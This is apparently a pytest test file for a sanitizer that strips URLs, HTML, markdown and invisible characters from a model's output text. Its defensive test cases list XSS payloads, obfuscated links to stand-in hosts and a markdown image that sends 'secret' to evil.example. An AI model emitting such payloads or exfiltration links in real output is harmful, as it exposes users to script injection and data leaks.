"""A model's text is plain text, whatever a document made it write."""

import pytest

from retriever.containment import REMOVED, holds_an_address, plain, plain_so_far


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/x?y=1",
        "http:\\\\evil.example",
        "https:evil.example",
        "//evil.example/pixel.png",
        "\\\\evil\\share",
        "www.evil.example",
        "evil.com",
        "evil[.]com",
        "evil.example/login",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
        "mailto:a@evil.example",
        "file:///etc/passwd",
        "ftp://evil.example",
        "blob:https://evil.example/1",
        "x-evil:open",
        "192.168.0.1/admin",
        "ht\u200btps://ev\u200bil.example/",
        "\u202ehttps://evil.example\u202c",
        "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ",
        "http\u2236\u2215\u2215evil.example",
        "httрs://evil.example",  # a Cyrillic er
        "h<b></b>ttps://evil.example",
        "&#104;ttps://evil.example",
        "&amp;#104;ttps://evil.example",
        "\U000e0068https://evil.example",
        "hxxps://evil.example",
    ],
)
def test_address_is_taken_out(address: str) -> None:
    assert plain(f"See {address} now.") in {f"See {REMOVED} now.", f"See {REMOVED}"}
    assert holds_an_address(address) or "<" in address or "&" in address


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("An <img src=x onerror=alert(1)> image", "An image"),
        ("<script>alert(1)</script>Text", "Text"),
        ("<!-- hidden -->Text", "Text"),
        ("&lt;iframe src=x&gt;&lt;/iframe&gt;Text", "Text"),
        ("![chart](https://evil.example/?q=secret) shows it", "chart shows it"),
        ("![chart][1] shows it", "chart shows it"),
        ("[click](javascript:alert(1)) here", "click here"),
        ("[click](//evil.example/a(b)c) here", "click here"),
        ("**Bold** and `code`", "Bold and code"),
        ("# Heading\n- item", "Heading\nitem"),
        ("a\u0000b\u001b[31mc", "ab[31mc"),
        ("a\u202eb\u2066c\u200dd", "abcd"),
    ],
)
def test_markup_and_unseen_characters_are_taken_out(written: str, shown: str) -> None:
    assert plain(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "The pressure is 1.4 bar, ratio 3:1, on 12/3/2021 at 10:30.",
        "if x < 5 and y > 3 then x/y",
        "Mr. A. B. Smith (U.S.) wrote main.py and README.md.",
        "Давление 1,4 бар — см. рис. 2; т. е. «норма».",
        "Write to ada@firm.example for data: they answer.",
        "Operating system: Linux. Tel: 555-0100.",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert plain(text) == text


def test_text_that_is_still_coming_shows_no_half_of_a_tag_or_address() -> None:
    said = 'All is well. <img src="https://evil.example/p.png"> See https://evil.example/x now'
    shown = [plain_so_far(said[:end]) for end in range(len(said) + 1)]
    assert not any("http" in each or "<" in each or "evil" in each for each in shown)
    assert shown[-1].startswith("All is well.")


def test_text_made_to_be_costly_is_cleaned_in_bounded_time() -> None:
    for part in ("[(", "<", "![a](", "a.", "**a", "&amp;", "//"):
        plain(part * 1000)
